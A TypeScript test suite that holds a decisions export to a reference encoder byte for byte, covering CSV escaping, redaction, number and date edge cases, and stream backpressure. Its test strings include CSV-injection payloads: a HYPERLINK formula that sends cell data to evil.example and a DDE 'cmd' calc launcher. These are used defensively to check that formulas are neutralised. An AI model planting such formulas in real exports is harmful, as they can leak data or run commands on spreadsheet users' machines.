// The export's bytes are a contract (imports, spreadsheets, audits): a varied log exported by exportDecisions must come
// out byte for byte as the reference encoder below writes it. The reference is the straightforward encoder Tandem
// shipped before the export was made to stream into buffers (row objects, a string per line), kept here as the spec.
// The faster paths (times and integers written as digits, the join left out without redaction, quotes doubled from a
// scratch buffer, several chunks in flight) are each held to it here, on values at the edges of those paths.
import { PassThrough, Writable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Decision } from '../domain/triage.ts';
import { openDatabase, type Db } from '../store/db.ts';
import { createDecisionsRepo, type DecisionFilter, type ExportRow } from '../store/decisions-repo.ts';
import { tempDir } from '../testing/temp-dirs.ts';
import { EXPORT_COLUMNS, exportDecisions, type ExportFormat } from './export.ts';
import { redactText } from './redact.ts';

/** The reference: every row to an object, every line to a string, the whole export to one string. */
function referenceExport(db: Db, format: ExportFormat, filter: DecisionFilter, redact: boolean): Buffer {
  const PLAIN = new Set<string>(['seq', 'decided_at', 'kind', 'verdict', 'confidence', 'decision_ms', 'map_version', 'hash', 'prev_hash', 'origin_hash']);
  const csvField = (v: string | number | null) => {
    if (v === null) return '';
    const s = typeof v === 'number' ? String(v) : v;
    // OWASP CSV injection: text that a spreadsheet would run as a formula (or that starts with the apostrophe itself).
    if (typeof v === 'string' && /^[=+\-@\t\r']/.test(s)) return `"'${s.replace(/"/g, '""')}"`;
    return /[",;\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
  };
  const redactRow = (row: ExportRow): ExportRow => {
    const known = [row.requester_name, row.requester_email].filter((x): x is string => typeof x === 'string' && x.length > 2);
    const clean = (s: string | null) => (s === null ? null : redactText(s, known));
    return { ...row, suggested: clean(row.suggested)!, final: clean(row.final)!, reason: clean(row.reason) };
  };
  let text = format === 'csv' ? `\uFEFF${EXPORT_COLUMNS.join(',')}\r\n` : '';
  for (const raw of createDecisionsRepo(db).iterate(filter)) {
    const row = redact ? redactRow(raw) : raw;
    const record: Record<string, string | number | null> = {};
    for (const c of EXPORT_COLUMNS) record[c] = c === 'decided_at' ? new Date(row.decided_at).toISOString() : ((row as unknown as Record<string, string | number | null | undefined>)[c] ?? null);
    if (format === 'csv') {
      text += EXPORT_COLUMNS.map((c) => {
        const v = record[c]!;
        return typeof v === 'string' && !PLAIN.has(c) ? csvField(v) : v === null ? '' : String(v);
      }).join(',') + '\r\n';
    } else {
      text += `${JSON.stringify(record)}\n`;
    }
  }
  return Buffer.from(text, 'utf8');
}

/** Text that exercises every escape: quotes, commas, line breaks of each kind, non-Latin scripts, emoji, personal data. */
const NASTY = [
  'plain',
  '',
  'a,b',
  'say "hi"',
  '"',
  '""',
  ',',
  'line one\nline two',
  'cr\ronly',
  'crlf\r\nend',
  'trailing newline\n',
  'tab\there',
  'naïve café — déjà vu',
  'Ελληνικά, русский, 中文, العربية',
  'emoji 😀👍🏽 and "quoted 😀"',
  '{"connector":"payments","body":{"note":"Refund, \\"as agreed\\"","amount":4500}}',
  'call +44 20 7946 0958 or mail jane.doe@example.com',
  'card 4111 1111 1111 1111, thanks',
  'Jane Doe asked, Jane Doe again',
  '\u0000nul and \u0007bell',
  '\\ backslash \\\\',
  '\u2028line separator\u2029paragraph',
  'lone \uD800 surrogate', // stored as U+FFFD: SQLite holds UTF-8
  // Formulas a spreadsheet would run (CSV injection), and values that start with the apostrophe that neutralises them.
  '=1+1 @SUM(A1) order not in ERP',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '-42.50',
  '@SUM(A1:A9)',
  '\tTab first',
  '\rCR first',
  "'already quoted",
  "'=kept",
  "''",
  "'",
  'a;b;=c',
];

describe('export bytes', () => {
  let dir: ReturnType<typeof tempDir>;
  let db: Db;

  beforeAll(() => {
    dir = tempDir();
    db = openDatabase(`${dir.path}/tandem.db`);
    const ticket = db.prepare("INSERT INTO tickets (id, source, external_id, subject, body, requester_name, requester_email, channel, created_at, content_hash, imported_at) VALUES (?, 'w', ?, 's', 'b', ?, ?, 'email', 1, 'h', 2)");
    ticket.run('w:1', '1', 'Jane Doe', 'jane.doe@example.com');
    ticket.run('w:2', '2', 'Bo', 'b@x.io'); // a name too short to redact by name
    ticket.run('w:3', '3', 'Zoë, "the" Ørsted', 'zoe@ørsted.dk');
    const repo = createDecisionsRepo(db);
    let seed = 7;
    const rnd = (n: number) => ((seed = (seed * 1103515245 + 12345) % 2147483648), seed % n);
    const pick = () => NASTY[rnd(NASTY.length)]! + (rnd(3) === 0 ? NASTY[rnd(NASTY.length)]! : '');
    const confidences = [0.7, 0.1 + 0.2, 1, 0, -0, 1e-7, 0.123456789012345678, 5e-324, 2 ** 53, -(2 ** 53) - 2, 1e21, 123456789.5, Infinity, -Infinity];
    const times = [Date.parse('2026-11-01T12:00:00Z'), 0, -1, Date.parse('1901-02-03T04:05:06.789Z'), Date.parse('2999-12-31T23:59:59.999Z')];
    // Enough rows that the output spans many of the export's 64 KiB chunks, and one value far larger than a chunk.
    for (let i = 0; i < 2500; i++) {
      const r = rnd(100);
      const tick = ['w:1', 'w:2', 'w:3', 'elsewhere:9'][rnd(4)]!;
      const suggested = pick();
      const reason = i === 1234 ? `${'huge "value", ünïcödé 😀\r\n'.repeat(12_000)}end` : rnd(3) === 0 ? null : pick();
      const base = { id: i % 97 === 0 ? `id, "${i}"\n` : `d-${i}`, ticketId: tick, triageId: null, runId: null, stepId: null, mapId: null, mapVersion: null, actor: rnd(5) === 0 ? pick() : 'ann', decidedAt: times[rnd(times.length)]! + i, confidence: confidences[rnd(confidences.length)]!, reason, decisionMs: rnd(4) === 0 ? null : rnd(100_000) } as const;
      let d: Decision;
      if (r < 30) d = { ...base, kind: 'triage', triageId: `t-${i}`, suggested, final: suggested, verdict: 'accepted' };
      else if (r < 50) d = { ...base, kind: 'triage', triageId: `t-${i}`, suggested, final: `${suggested}!`, verdict: 'overridden' };
      else d = { ...base, kind: 'step', runId: `r,${i}`, stepId: pick() || 's', mapId: rnd(2) ? pick() : null, mapVersion: rnd(2) ? rnd(9) : null, suggested, final: pick(), verdict: 'edited' };
      repo.insert(d, i % 11 === 0 ? { originHash: 'ab'.repeat(32), origin: pick() || 'x' } : null);
    }
  });
  afterAll(() => {
    db.close();
    dir.cleanup();
  });

  const exported = async (format: ExportFormat, filter: DecisionFilter, redact: boolean) => {
    const out = new PassThrough();
    const done = buffer(out);
    const n = await exportDecisions(createDecisionsRepo(db), format, filter, out, { redact });
    return { n, bytes: await done };
  };

  for (const format of ['csv', 'jsonl'] as const) {
    for (const redact of [false, true]) {
      it(`${format}${redact ? ', redacted' : ''}: the same bytes as the reference`, async () => {
        const { n, bytes } = await exported(format, {}, redact);
        expect(n).toBe(2500);
        const want = referenceExport(db, format, {}, redact);
        expect(bytes.length).toBe(want.length);
        expect(bytes.equals(want)).toBe(true);
      });
    }
  }

  it('filtered: the same bytes as the reference', async () => {
    const filter = { since: Date.parse('2026-01-01T00:00:00Z'), actor: 'ann', verdict: 'edited' };
    const { n, bytes } = await exported('csv', filter, true);
    expect(n).toBeGreaterThan(0);
    expect(bytes.equals(referenceExport(db, 'csv', filter, true))).toBe(true);
  });

  it('the same bytes through a slow stream that is always full (backpressure)', async () => {
    const parts: Buffer[] = [];
    const slow = new Writable({
      highWaterMark: 1,
      write(chunk: Buffer, _enc, cb) {
        parts.push(Buffer.from(chunk));
        setImmediate(cb);
      },
    });
    const n = await exportDecisions(createDecisionsRepo(db), 'jsonl', {}, slow);
    expect(n).toBe(2500);
    expect(Buffer.concat(parts).equals(referenceExport(db, 'jsonl', {}, false))).toBe(true);
  });

  it('fails rather than waits forever when the output is closed mid-export (a browser that cancels the download)', async () => {
    const out: Writable = new Writable({
      highWaterMark: 1,
      write(_chunk: Buffer, _enc, cb) {
        setImmediate(() => (out.destroy(), cb()));
      },
    });
    await expect(exportDecisions(createDecisionsRepo(db), 'csv', {}, out)).rejects.toThrow(/closed/);
  });
});

describe('export bytes at the edges of the fast paths', () => {
  let dir: ReturnType<typeof tempDir>;
  let db: Db;
  const ISO_FIRST = Date.parse('0000-01-01T00:00:00.000Z');
  const ISO_LAST = Date.parse('9999-12-31T23:59:59.999Z');

  beforeAll(() => {
    dir = tempDir();
    db = openDatabase(`${dir.path}/tandem.db`);
    const repo = createDecisionsRepo(db);
    // Times the digits cover (years 0000–9999, leap days, before 1970, each millisecond digit) and the ones toISOString
    // writes otherwise (a sign and six digits), up to the last time a Date holds.
    const times = [
      ISO_FIRST, ISO_FIRST + 1, ISO_FIRST - 1, ISO_LAST, ISO_LAST - 1, ISO_LAST + 1, 8.64e15, -8.64e15, 0, -1, 1, 999, 1000, -999, -1000, -1001,
      ...['0000-02-29T12:00:00Z', '1600-02-29T23:59:59.999Z', '1900-02-28T23:59:59.999Z', '1900-03-01T00:00:00Z', '1969-12-31T23:59:59.999Z', '2000-02-29T00:00:00.001Z', '2024-12-31T23:59:59.990Z', '2100-03-01T00:00:00.100Z', '9999-02-28T01:02:03.004Z'].map(Date.parse),
    ];
    let seed = 11;
    const rnd = (n: number) => ((seed = (seed * 1103515245 + 12345) % 2147483648), seed % n);
    // A spread over the whole range, and runs of times within a day and across midnight (the date part is kept per day).
    for (let i = 0; i < 3000; i++) times.push(ISO_FIRST - 1e12 + Math.floor((rnd(1 << 30) / (1 << 30)) * (ISO_LAST - ISO_FIRST + 2e12)) + rnd(1000));
    for (let i = 0; i < 300; i++) times.push(Date.parse('2026-03-28T23:59:50Z') + i * 97);
    // Integers the digits cover (safe ones) and the ones String(n) writes (past 2^53, as better-sqlite3 reads them).
    const ints = [0, 1, 9, 10, 99, 100, 101, 999, 1000, 65_535, 2 ** 31 - 1, 2 ** 31, 2 ** 32, 1e15 - 1, 1e15, 2 ** 53 - 1, -(2 ** 53 - 1), 2 ** 53, 2 ** 53 + 2, 1e16, 9e18, -9e18, -1, -9, -10, -123_456_789, null];
    const confidences = [0.7, 0.1 + 0.2, 0.6799999999999999, 0.5700000000000001, 1, 0, -0, 1e-7, 1e-6, 5e-324, 1e21, 1e20, 123456789.5, -0.25, Infinity, -Infinity, 2 ** 53 + 2, Number.MAX_VALUE, Number.MIN_VALUE];
    db.transaction(() => {
      times.forEach((decidedAt, i) => {
        const ms = ints[i % ints.length]!;
        repo.insert({ id: `e-${i}`, ticketId: 'elsewhere:1', kind: 'triage', triageId: `t-${i}`, runId: null, stepId: null, mapId: i % 3 ? `map,${i}` : null, mapVersion: ints[(i * 7) % ints.length]!, actor: 'ann', decidedAt, suggested: 'x', final: 'x', verdict: 'accepted', confidence: confidences[i % confidences.length]!, reason: null, decisionMs: ms });
      });
    })();
  });
  afterAll(() => {
    db.close();
    dir.cleanup();
  });

  for (const format of ['csv', 'jsonl'] as const) {
    it(`${format}: the same bytes as the reference`, async () => {
      const out = new PassThrough();
      const done = buffer(out);
      const n = await exportDecisions(createDecisionsRepo(db), format, {}, out);
      const bytes = await done;
      expect(n).toBe(3325);
      expect(bytes.equals(referenceExport(db, format, {}, false))).toBe(true);
    });
  }
});

describe('export flow', () => {
  let dir: ReturnType<typeof tempDir>;
  let db: Db;
  /** The export's bound on bytes handed to the stream and not yet written (MAX_IN_FLIGHT in export.ts). */
  const IN_FLIGHT = 1024 * 1024;

  beforeAll(() => {
    dir = tempDir();
    db = openDatabase(`${dir.path}/tandem.db`);
    const repo = createDecisionsRepo(db);
    const note = 'Refund, "as agreed", ünïcödé '.repeat(12);
    db.transaction(() => {
      for (let i = 0; i < 8000; i++) {
        const suggested = JSON.stringify({ connector: 'payments', amount: 4500 + i, note });
        repo.insert({ id: `f-${i}`, ticketId: 'elsewhere:1', kind: 'step', triageId: null, runId: `r-${i}`, stepId: 'refund', mapId: 'refund_request', mapVersion: 3, actor: 'ann', decidedAt: 1_790_000_000_000 + i * 1000, suggested, final: suggested, verdict: 'accepted', confidence: 0.9, reason: null, decisionMs: 900 });
      }
    })();
  });
  afterAll(() => {
    db.close();
    dir.cleanup();
  });

  it('hands the stream several chunks at a time while it writes, never much more than 1 MiB not yet written', async () => {
    const parts: Buffer[] = [];
    let pending = 0;
    let most = 0;
    const slow = new Writable({
      highWaterMark: 1,
      writev(chunks, cb) {
        const bytes = chunks.reduce((sum, c) => sum + (c.chunk as Buffer).length, 0);
        for (const c of chunks) parts.push(Buffer.from(c.chunk as Buffer));
        setImmediate(() => ((pending -= bytes), cb()));
      },
    });
    const write = slow.write.bind(slow);
    slow.write = ((chunk: Buffer, cb: (err?: Error | null) => void) => {
      pending += chunk.length;
      most = Math.max(most, pending);
      return write(chunk, cb);
    }) as typeof slow.write;
    const n = await exportDecisions(createDecisionsRepo(db), 'csv', {}, slow);
    const all = Buffer.concat(parts);
    expect(n).toBe(8000);
    expect(all.length).toBeGreaterThan(4 * IN_FLIGHT);
    expect(all.equals(referenceExport(db, 'csv', {}, false))).toBe(true);
    // More than one 64 KiB chunk waits to be written (the export does not stop at each), and never more than the bound
    // plus the chunks of the row being written when it was reached.
    expect(most).toBeGreaterThan(2 * 64 * 1024);
    expect(most).toBeLessThan(IN_FLIGHT + 2 * 64 * 1024);
  });

  it("fails with the stream's own error when a write fails (a full disk)", async () => {
    const out = new Writable({
      write(_chunk: Buffer, _enc, cb) {
        setImmediate(() => cb(Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' })));
      },
    });
    await expect(exportDecisions(createDecisionsRepo(db), 'csv', {}, out)).rejects.toThrow(/ENOSPC/);
  });
});
